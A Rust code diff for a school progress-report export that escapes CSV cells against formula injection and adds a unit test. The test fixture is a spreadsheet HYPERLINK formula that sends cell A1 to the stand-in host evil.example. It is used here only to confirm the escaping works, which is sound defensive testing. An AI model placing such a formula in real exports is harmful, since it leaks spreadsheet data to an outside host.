@@ -5,6 +5,7 @@
 use std::collections::HashMap;
 
 use rust_xlsxwriter::{DocProperties, Format, FormatAlign, FormatBorder, Workbook, Worksheet};
+use tica_domain::csv_cell;
 use tica_domain::micro_competency::{Dimension, Environment};
 
 use crate::error::{AssessmentError, Result};
@@ -146,11 +147,12 @@ pub fn progress_csv(
         .chain(std::iter::once((total, "合计".to_owned())))
         .collect();
     let mut out = b"\xEF\xBB\xBF".to_vec();
-    out.extend_from_slice(HEADERS.join(",").as_bytes());
-    out.extend_from_slice(b"\r\n");
+    csv_cell::write_record(&mut out, &HEADERS, "\r\n");
     for (row, name) in &all {
         let (text, numbers) = cells(row, name);
-        let mut line: Vec<String> = vec![text[0].clone(), text[1].replace(',', " ")];
+        // Every cell goes through `csv_cell`: a unit name is office-typed text, and one that
+        // starts like a formula must reach the spreadsheet as text (OWASP CSV injection).
+        let mut line: Vec<String> = vec![text[0].clone(), text[1].clone()];
         line.extend(numbers.iter().map(|(_, v, pct)| {
             if *pct {
                 format!("{:.1}%", v * 100.0)
@@ -159,8 +161,7 @@ pub fn progress_csv(
             }
         }));
         line.push(text[2].clone());
-        out.extend_from_slice(line.join(",").as_bytes());
-        out.extend_from_slice(b"\r\n");
+        csv_cell::write_record(&mut out, &line, "\r\n");
     }
     (
         format!("{}.csv", stem(level, year)),
@@ -459,4 +460,36 @@ pub fn progress_workbook(
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
         bytes,
     ))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_unit_name_that_starts_a_formula_reaches_the_csv_as_text() {
+        let row = ProgressRow {
+            unit: "schools/3413240001".into(),
+            ..ProgressRow::default()
+        };
+        let names = HashMap::from([(
+            row.unit.clone(),
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")".to_owned(),
+        )]);
+        let (_, _, bytes) =
+            progress_csv(&[row], &ProgressRow::default(), &names, Level::School, 2026);
+        let text = String::from_utf8(bytes).unwrap();
+        let line = text.lines().nth(1).unwrap();
+        assert!(
+            line.starts_with("3413240001,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"),
+            "{line}"
+        );
+        // The name's comma is quoted, not turned into a column: the row keeps 17 cells.
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        let record = reader.records().nth(1).unwrap().unwrap();
+        assert_eq!(record.len(), 17);
+        assert!(record[1].starts_with("'="));
+    }
 }
